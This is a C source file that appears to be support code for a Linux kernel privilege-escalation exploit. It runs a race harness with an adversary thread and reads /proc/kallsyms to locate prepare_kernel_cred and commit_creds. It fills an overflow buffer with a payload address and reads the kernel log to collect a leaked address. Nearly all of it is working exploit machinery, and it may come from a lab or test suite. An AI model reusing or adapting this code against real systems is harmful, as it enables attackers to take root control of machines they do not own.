/* SPDX-License-Identifier: MIT */
#include <fcntl.h>
#include <race.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <thread.h>
#include <unistd.h>

#define MOST_ROUNDS 1000
#define SYSLOG_ACTION_READ_ALL 3

static struct thread *thread;
static volatile int ready, over;

int race_begin(void *(*adversary)(void *))
{
	thread = thread_create(adversary, NULL);
	if (!thread)
		return -1;
	while (!ready)
		sched_yield();
	return 0;
}

int race_goes_on(void)
{
	static int rounds;

	ready = 1;
	sched_yield();
	return !over && rounds++ < MOST_ROUNDS;
}

void race_end(void)
{
	over = 1;
	thread_join(thread);
}

/* "c0012345 T name" */
static unsigned long address_in(char *line, const char *name)
{
	char *word = strrchr(line, ' ');

	if (!word || strcmp(word + 1, name))
		return 0;
	return strtoul(line, NULL, 16);
}

unsigned long kernel_symbol(const char *name)
{
	unsigned long found = 0;
	char text[1024];
	ssize_t size;
	int fd;

	fd = open("/proc/kallsyms", O_RDONLY);
	if (fd < 0)
		return 0;
	/* Each read gives whole lines. */
	while (!found && (size = read(fd, text, sizeof(text) - 1)) > 0) {
		char *line = text, *end;

		text[size] = '\0';
		for (; !found && (end = strchr(line, '\n')); line = end + 1) {
			*end = '\0';
			found = address_in(line, name);
		}
	}
	close(fd);
	return found;
}

int race_arm(void)
{
	prepare_kernel_cred = kernel_symbol("prepare_kernel_cred");
	commit_creds = kernel_symbol("commit_creds");
	return prepare_kernel_cred && commit_creds ? 0 : -1;
}

void fill_overflow(unsigned long name[OVERFLOW / sizeof(unsigned long)])
{
	unsigned int i;

	for (i = 0; i < OVERFLOW / sizeof(unsigned long); i++)
		name[i] = (unsigned long)payload;
	memcpy(name, "beagle", sizeof("beagle"));
}

unsigned long kernel_secret(void)
{
	static const char before[] = "planted at ";
	static char log[64 * 1024];
	const char *place;
	int size;

	size = syscall(__NR_syslog, SYSLOG_ACTION_READ_ALL, log,
		       sizeof(log) - 1);
	if (size < 0)
		return 0;
	log[size] = '\0';
	place = strstr(log, before);
	return place ? strtoul(place + strlen(before), NULL, 16) : 0;
}
